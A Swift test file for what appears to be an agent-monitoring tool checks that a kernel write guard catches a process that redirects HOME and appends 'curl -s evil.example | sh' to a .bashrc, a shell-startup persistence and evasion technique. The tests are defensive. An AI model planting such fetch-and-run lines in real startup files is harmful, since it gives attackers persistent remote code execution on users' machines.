import Foundation
import XCTest

/// Evasion tier, class 1 (identity from names and environment) and 7 (what the kernel relies
/// on). Technique: start with the operator's HOME, so that nothing elsewhere is guarded from
/// the start, then exec a shell with HOME pointed at another directory and plant `~/.bashrc`
/// there. ATT&CK T1546.004 (Unix Shell Configuration Modification).
/// The kernel reads HOME at that exec; once user space has learned it, the persistence
/// locations below it are guarded in the kernel like a login user's home (the write guard
/// matches: in monitor mode it says so, in enforce mode the writer dies at the open, before
/// a byte lands). The script plants only once `tether run` has said the home is guarded:
/// until then the rules judge it (HomeElsewhereShellStartupTests).
final class HomeLearnedMidSessionTests: TetherRunTestCase {
    func testAHomeLearnedMidSessionIsGuardedInTheKernel() throws {
        let home = "/tmp/tev-later-home-\(getpid())"
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        cleanup.append(home)
        let rc = home + "/.bashrc"
        let script = "env HOME=\(home) /bin/sh -c 'while [ ! -e go ]; do sleep 0.05; done; echo \"curl -s evil.example | sh\" >> ~/.bashrc'"
        let go: () -> Void = { _ = FileManager.default.createFile(atPath: self.dir + "/go", contents: nil) }
        let guarded = "home(s) the session's members run with are guarded too"

        for mode in ["monitor", "enforce"] {
            try? FileManager.default.removeItem(atPath: dir + "/go")
            try? FileManager.default.removeItem(atPath: rc)
            let r = try run(script, mode: mode, confined: false, when: guarded, then: go)
            XCTAssertTrue(r.stderr.contains(guarded), "\(mode): the learned home was not guarded: \(r.stderr)")
            let f = try XCTUnwrap(r.findings.first { $0["rule"] as? String == "persist.shell_startup" }, "\(mode): \(r.rules) \(r.stderr)")
            XCTAssertEqual(f["path"] as? String, rc, "\(f)")
            let guards = (f["events"] as? [[String: Any]] ?? []).flatMap { $0["guard"] as? [String] ?? [] }
            XCTAssertTrue(guards.contains("write"), "\(mode): the kernel's write guard did not match: \(f)")
            if mode == "enforce" {
                XCTAssertTrue(guards.contains("killed"), "the writer was not killed in the kernel: \(f)")
                let left = (try? String(contentsOfFile: rc, encoding: .utf8)) ?? ""
                XCTAssertFalse(left.contains("evil.example"), "a byte landed: \(left)")
            }
        }
    }
}

/// The same technique in a session tetherd watches: the home its member is exec'd with is
/// guarded in the kernel once tetherd has learned it.
final class HomeLearnedMidSessionDaemonTests: DaemonTestCase {
    func testTetherdGuardsTheHomesItsSessionsLearn() throws {
        // the agent: a copy of sh the policy names
        let sh = dir + "/agent-sh"
        try FileManager.default.copyItem(atPath: URL(fileURLWithPath: "/bin/sh").resolvingSymlinksInPath().path, toPath: sh)
        try "agents:\n  - name: sh-agent\n    match:\n      exe: [\"\(sh)\"]\n".write(toFile: policy, atomically: true, encoding: .utf8)
        let (_, log) = try startDaemon([])
        let home = dir + "/elsewhere", rc = home + "/.bashrc"
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)

        let agentRun = Process()
        agentRun.executableURL = URL(fileURLWithPath: sh)
        agentRun.arguments = ["-c", "env HOME=\(home) /bin/sh -c 'while [ ! -e \(dir!)/go ]; do sleep 0.05; done; echo \"curl -s evil.example | sh\" >> ~/.bashrc'"]
        try agentRun.run()
        defer { if agentRun.isRunning { agentRun.terminate() } }
        XCTAssertTrue(waitFor(30) { log().contains("home(s) the sessions' members run with are guarded too") }, log())
        FileManager.default.createFile(atPath: dir + "/go", contents: nil)
        agentRun.waitUntilExit()

        // the write's own record: the kernel's write guard matched it
        func guardOfTheWrite() -> [String]? {
            let lines = ((try? String(contentsOfFile: dir + "/events.jsonl", encoding: .utf8)) ?? "").split(separator: "\n")
            for l in lines {
                guard let o = try? JSONSerialization.jsonObject(with: Data(l.utf8)) as? [String: Any],
                      o["kind"] as? String == "open", o["path"] as? String == rc else { continue }
                return o["guard"] as? [String] ?? []
            }
            return nil
        }
        XCTAssertTrue(waitFor(10) { guardOfTheWrite() != nil }, "no open of \(rc) recorded: \(log())")
        XCTAssertTrue(guardOfTheWrite()?.contains("write") == true, "the kernel's write guard did not match: \(guardOfTheWrite() ?? [])")
        XCTAssertTrue(alerts().contains { $0.rule == "persist.shell_startup" && $0.message.contains(rc) }, "\(alerts().map(\.message))")
    }
}
